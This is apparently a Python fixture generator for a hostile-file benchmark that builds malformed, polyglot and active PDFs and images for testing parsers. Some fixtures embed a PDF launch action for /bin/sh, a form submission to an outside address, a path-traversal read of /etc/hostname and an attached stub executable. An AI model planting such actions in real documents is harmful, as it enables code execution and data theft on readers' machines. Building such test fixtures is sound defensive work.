"""PDFs that act or enclose, and two files in one."""

# mypy: disable-error-code="no-redef"
from __future__ import annotations

import io
import struct
import zipfile

import pikepdf

from benchmarks.hostile.pdfs import one_leaf
from benchmarks.hostile.register import ANN, BOB, WHOLE, bits, chart, file, image_pdf, saved
from tests.pages import make_odd_files as odd


# --- PDF: active and enclosing things ----------------------------------------------------------
@file("launches_a_program.pdf")
def _() -> bytes:
    return one_leaf("", "/OpenAction << /S /Launch /F (/bin/sh) >>")


@file("submits_a_form.pdf")
def _() -> bytes:
    return one_leaf("", "/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")


@file("opens_another_file.pdf")
def _() -> bytes:
    return one_leaf("", "/OpenAction << /S /GoToR /F (../../../../etc/hostname) >>")


@file("image_is_an_external_file.pdf", damaged=True)
def _() -> bytes:
    """The picture's data are to come from another file (ISO 32000-2 7.3.8.2)."""
    return odd.written(odd.one_image(b"", {**odd.GREY8, "/F": pikepdf.String("/etc/hostname")}))


@file("program_attached.pdf")
def _() -> bytes:
    pdf = odd.grey_jpeg_pdf()
    pdf.attachments["run.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(500))  # type: ignore[call-arg]
    return odd.written(pdf)


# --- two in one --------------------------------------------------------------------------------
@file("jpeg_then_pdf.jpg", damaged=True)
def _() -> bytes:
    return WHOLE["chart.jpg"]() + odd.pages_pdf(2)


@file("jpeg_then_jpeg.jpg", damaged=True)
def _() -> bytes:
    return WHOLE["chart.jpg"]() + saved(chart(BOB), "JPEG", quality=85)


@file("png_then_png.png", damaged=True)
def _() -> bytes:
    return WHOLE["chart.png"]() + saved(chart(BOB), "PNG")


@file("tiff_then_tiff.tif", damaged=True)
def _() -> bytes:
    return WHOLE["chart_g4.tif"]() + saved(bits(100), "TIFF", compression="group4")


@file("gif_then_gif.gif", damaged=True)
def _() -> bytes:
    return WHOLE["chart.gif"]() + saved(chart(BOB), "GIF")


@file("pdf_then_jpeg.pdf", damaged=True)
def _() -> bytes:
    return WHOLE["chart.pdf"]() + saved(chart(BOB), "JPEG", quality=85)


@file("pdf_glued_charts.pdf", damaged=True)
def _() -> bytes:
    return odd.written(image_pdf(chart(BOB))) + WHOLE["chart.pdf"]()


@file("polyglot_jpeg_with_pdf_in_its_comment.jpg", damaged=True)
def _() -> bytes:
    """Valid as either: readers of PDF find the header in the first kilobyte."""
    data, inner = WHOLE["chart.jpg"](), odd.raw_pdf({1: "<< /Type /Catalog >>"})[:600]
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(inner) + 2) + inner + data[2:] + odd.pages_pdf(1)


@file("polyglot_pdf_and_zip.pdf", ANN)
def _() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(zipfile.ZipInfo("a.txt"), "text")
    return out.getvalue()[:40] + b"\n" + WHOLE["chart.pdf"]()


@file("behind_an_http_header.pdf", ANN)
def _() -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + WHOLE["chart.pdf"]()


@file("behind_four_kilobytes.pdf", ANN)
def _() -> bytes:
    return b"junk" * 1024 + WHOLE["chart.pdf"]()
